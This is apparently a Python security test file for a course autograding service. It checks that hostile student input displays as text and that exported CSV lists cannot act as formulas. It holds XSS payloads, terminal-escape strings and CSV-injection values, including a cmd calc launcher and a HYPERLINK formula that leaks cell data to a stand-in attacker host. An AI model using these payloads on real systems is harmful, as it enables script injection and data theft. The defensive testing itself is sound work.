"""What students, staff and labs have written, on every page that shows it and in every list that is exported."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Request

from tests.attacks.siege import HAND_INS, Siege
from tests.web.visitor import Visitor

LAB = "attacks/words"
RUNS = "<img src=x onerror=alert(1)>"
NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {"title": RUNS},
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": f"notes {RUNS} [link](javascript:alert(1))"},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": "def speak(word):\n    return len(word)\n",
            "outputs": [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {
                        "text/html": f"<script>alert(1)</script>{RUNS}",
                        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                        "text/markdown": f"[link](javascript:alert(1)) {RUNS}",
                    },
                }
            ],
        },
    ],
}
# What a page of ours never holds, unless text has become a part of it.
ALIVE = """() => [...document.querySelectorAll('*')].filter(element =>
    (element.matches('img:not(.figure), script:not([src^="/static/"]), iframe, object, embed, base, style')
    || [...element.attributes].some(each => /^on/.test(each.name) || /^\\s*(javascript|data):/i.test(each.value)))
).map(element => element.outerHTML.slice(0, 200))"""


@pytest.fixture
def visit(siege: Siege, browser: Browser) -> Iterator[Callable[..., Visitor]]:
    """Signed in, and nothing that the browser does may leave the service or make it complain."""
    visitors: list[Visitor] = []
    elsewhere: list[str] = []

    def heard(request: Request) -> None:
        if not request.url.startswith(siege.url):
            elsewhere.append(request.url)

    def sign_in(person: str, **options: Any) -> Visitor:
        visitor = Visitor(siege.url, browser.new_context(**options))
        visitor.context.on("request", heard)
        visitors.append(visitor)
        return visitor.sign_in(person)

    yield sign_in
    for visitor in visitors:
        visitor.context.close()
    assert elsewhere == []
    assert [complaint for visitor in visitors for complaint in visitor.complaints] == []


def call_student(siege: Siege, name: str) -> None:
    of_student = "(SELECT person_id FROM identities WHERE subject = 'student' LIMIT 1)"
    siege.records.ask(f"UPDATE people SET name = %s WHERE id = {of_student} RETURNING id", name)


def call_file(siege: Siege, submission: str, name: str) -> None:
    """As an older release may have stored it: an upload of today would be called otherwise."""
    siege.records.ask("UPDATE submissions SET file_name = %s WHERE id = %s RETURNING id", name, submission)


@pytest.fixture
def renamed(siege: Siege) -> Iterator[Callable[[str], None]]:
    yield lambda name: call_student(siege, name)
    call_student(siege, "Demo student")


@pytest.fixture
def poisoned(siege: Siege, renamed: Callable[[str], None]) -> dict[str, str]:
    """Two hand-ins that say hostile things, by somebody with a hostile name, one with a hostile reason at its score."""
    renamed(f"Mallory {RUNS}")
    words = siege.hand_in("student", "words.py", (HAND_INS / "H12_words.py").read_bytes(), LAB, [])
    notes = siege.hand_in("student", "notes.ipynb", json.dumps(NOTEBOOK).encode(), LAB, ["speak"])
    call_file(siege, words["id"], f"{RUNS}.py")
    answer = siege.people["instructor"].put(
        f"/api/v1/submissions/{words['id']}/override", json={"score": 1, "reason": f"because {RUNS}"}
    )
    assert answer.status_code == 200, answer.text
    return {"words": f"/submissions/{words['id']}", "notes": f"/submissions/{notes['id']}"}


def own_tokens(visitor: Visitor) -> None:
    form = {"name": f"job {RUNS}", "scope": "student", "days": "7"}
    headers = {"Sec-Fetch-Site": "same-origin", "Accept": "text/html"}
    answer = visitor.context.request.post(f"{visitor.site}/tokens", form=form, headers=headers)
    assert answer.status == 201, answer.text()


def read(visitor: Visitor, path: str) -> str:
    """All that the page says once everything in it was opened; nothing in it is alive."""
    visitor.go(path)
    visitor.page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
    visitor.page.wait_for_load_state("networkidle")
    assert visitor.page.evaluate(ALIVE) == [], path
    return visitor.text()


SAID = ["printed </pre>", "raised </pre>", "named</pre>", "saved </pre>", "kept </pre>", "alert(6)", f"because {RUNS}"]
OF_STUDENT = {
    "/": ["Words <img"],
    f"/labs/{LAB}": [f"{RUNS}.py", "<script>alert(1)</script> <img", "<b onclick=alert(1)>cell</b>", "somewhere else"],
    "words": [*SAID, f"{RUNS}.py", "Speak </h3><script>", "Prints </p><script>"],
    "notes": ["notes.ipynb"],
    "/tokens": [f"job {RUNS}"],
}
OF_STAFF = {
    "/courses/attacks": [f"{RUNS}.py", f"Mallory {RUNS}", "Words <img"],
    "words": [*SAID, f"Mallory {RUNS}"],
    "notes": [f"Mallory {RUNS}"],
    f"/labs/{LAB}": ["<script>alert(1)</script> <img"],
    "/sandbox": ["seccomp"],
}


@pytest.mark.browser
@pytest.mark.parametrize(
    ("person", "pages"),
    [pytest.param("student", OF_STUDENT, id="H12-student"), pytest.param("instructor", OF_STAFF, id="H12-staff")],
)
def test_what_was_written_is_shown_as_text_and_does_nothing(siege, visit, poisoned, person, pages):
    with siege.hostile() as answers:
        visitor = visit(person)
        if person == "student":
            own_tokens(visitor)
            answers += [siege.people["student"].get(poisoned.get(path, path)) for path in pages if path != "/tokens"]
        for path, shown in pages.items():
            text = read(visitor, poisoned.get(path, path))
            assert [words for words in shown if words not in text] == [], path


@pytest.mark.browser
@pytest.mark.parametrize("person", [pytest.param("student", id="H12-open_page")])
def test_what_arrives_on_an_open_page_does_nothing_either(siege, visit, renamed, person):
    with siege.hostile():
        visitor = visit(person)
        visitor.go(f"/labs/{LAB}")
        visitor.choose(f"{RUNS}.py", (HAND_INS / "H12_words.py").read_bytes())
        visitor.page.get_by_role("button", name="Grade it").click()
        visitor.page.wait_for_url("**/submissions/*")
        visitor.page.locator("#summary.graded").wait_for()
        assert visitor.page.evaluate(ALIVE) == []
        assert [words for words in SAID[:-1] if words not in visitor.text()] == []


def downloads(siege: Siege, poisoned: dict[str, str]) -> dict[str, tuple[str, str]]:
    """By address who may load it, and its type."""
    api = "/api/v1"
    view = siege.people["instructor"].get(f"{api}{poisoned['words']}").json()
    artifacts = [each for exercise in view["exercises"] for check in exercise["checks"] for each in check["artifacts"]]
    assert artifacts
    return {
        f"{poisoned['words']}/source": ("student", "application/octet-stream"),
        f"{api}{poisoned['words']}/source": ("student", "application/octet-stream"),
        f"{poisoned['notes']}/source": ("student", "application/octet-stream"),
        f"{api}{poisoned['notes']}/source": ("student", "application/octet-stream"),
        f"/labs/{LAB}/starter.py": ("student", "text/x-python; charset=utf-8"),
        f"{api}/labs/{LAB}/starter": ("student", "text/x-python; charset=utf-8"),
        f"{api}/courses/attacks/submissions.csv": ("instructor", "text/csv; charset=utf-8"),
        f"{api}/courses/attacks/scores.csv": ("instructor", "text/csv; charset=utf-8"),
        **{each["url"]: ("student", "application/json") for each in artifacts},
        **{each["url"].removeprefix(api): ("student", "application/json") for each in artifacts},
    }


@pytest.mark.parametrize("route", [pytest.param(downloads, id="H12-raw_downloads")])
def test_what_is_downloaded_is_saved_and_never_opened(siege, poisoned, route):
    for path, (person, kind) in route(siege, poisoned).items():
        answer = siege.people[person].get(path)
        assert (answer.status_code, answer.headers["content-type"]) == (200, kind), path
        assert answer.headers["content-disposition"].startswith("attachment; filename="), path
        assert answer.headers["x-content-type-options"] == "nosniff", path
        assert "\n" not in answer.headers["content-disposition"]


# Overrides of direction, an escape sequence that clears a terminal, lines without end, a file with one such line.
BENT = """
BENT = "\\u202egnorw\\u2066\\x1b[2J"
def speak(word):
    print("printed", BENT, "x" * 100_000)
    raise ValueError(f"raised {BENT}\\x00\\x85\\ud800"); long = "LONG"
""".replace("LONG", "y" * 500_000)


@pytest.mark.browser
@pytest.mark.parametrize("person", [pytest.param("student", id="A40-page"), pytest.param("instructor", id="A40-staff")])
def test_what_nobody_sees_is_spelt_out_and_what_never_ends_is_cut(siege, visit, person):
    view = siege.hand_in("student", "bent.py", BENT.encode(), LAB, ["speak"])
    assert {check["verdict"] for check in view["exercises"][0]["checks"]} == {"CRASH"}
    visitor = visit(person, viewport={"width": 360, "height": 740})
    text = read(visitor, f"/submissions/{view['id']}")
    assert "printed \\u202egnorw\\u2066\\x1b[2J x" in text
    assert re.search(r"raised \\u202egnorw\\u2066\\x1b\[2J\S*\\x85", text)
    assert not set("\u202e\u2066\x1b\x00\x85\ud800") & set(text)
    assert visitor.overflow() == 0
    assert len(visitor.page.content()) < 400_000


# What a spreadsheet of any country, or one that splits lines before it looks at quotes, might take for a formula.
FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
SHEETS = re.compile(r"[,;|\t\r\n]")
GUARDED = re.compile(rf"""(^'*)'(?=[\t\r\n])|((?:^|[;,|\t\r\n])[ "']*)'(?=[{re.escape(FORMULA)}])""")
NAMES = {
    "H13-equals": '=cmd|"/c calc"!A1',
    "H13-plus": "+1+1",
    "H13-minus": "-2+3+cmd|' /C calc'!A0",
    "H13-at": "@SUM(1+1)*cmd",
    "H13-tab": "\t=1+1",
    "H13-carriage_return": "\r=1+1",
    "H13-newline": "a\n=1+1\r\n-1",
    "H13-quotes": '"=1+1"," ""=2',
    "H13-commas": "a,=1,b;=2;\t=3|=4",
    "H13-apostrophes": "'=1,''=2, ' =3",
    "H13-spaces": "  =1+1",
    "H13-wide": "\uff1d1+1",
    "H13-link": '=HYPERLINK("http://mallory.example?"&A1,"x")',
}


def cells(siege: Siege, name: str) -> list[list[str]]:
    """As a program reads the list, once no spreadsheet would take any of it for a formula."""
    answer = siege.people["instructor"].get(f"/api/v1/courses/attacks/{name}.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    for piece in SHEETS.split(answer.text):
        assert not piece.lstrip(' "').startswith(tuple(FORMULA)), piece
    return list(csv.reader(io.StringIO(answer.text, newline="")))


@pytest.fixture(scope="module")
def handed_in(siege: Siege) -> dict[str, Any]:
    return siege.hand_in("student", "plain.py", b"def speak(word):\n    return 5\n", LAB, ["speak"])


@pytest.mark.parametrize("name", [pytest.param(name, id=line) for line, name in NAMES.items()])
def test_no_cell_of_a_list_is_a_formula_and_every_name_comes_back(siege, renamed, handed_in, name):
    before = {table: cells(siege, table) for table in ("submissions", "scores")}
    renamed(name)
    call_file(siege, handed_in["id"], name)
    for table, column in (("submissions", 1), ("submissions", 4), ("scores", 1)):
        rows = cells(siege, table)
        assert {len(row) for row in rows} == {len(before[table][0])}
        assert len(rows) == len(before[table])
        assert name in [GUARDED.sub(r"\1\2", row[column]) for row in rows], (table, column)


FILE_NAMES = ("=1+1.py", "@SUM(1).py", "-x.py", "+1,=2;-3.py", "a\t=1.py", "'=1.py", "\uff1d1.py")


@pytest.mark.parametrize("names", [pytest.param(FILE_NAMES, id="H13-uploaded_names")])
def test_uploaded_names_are_text_in_the_lists(siege, names):
    with siege.hostile():
        shown = {siege.hand_in("student", name, b"x = 1\n", LAB, ["speak"])["file_name"] for name in names}
        assert shown <= {GUARDED.sub(r"\1\2", row[4]) for row in cells(siege, "submissions")}
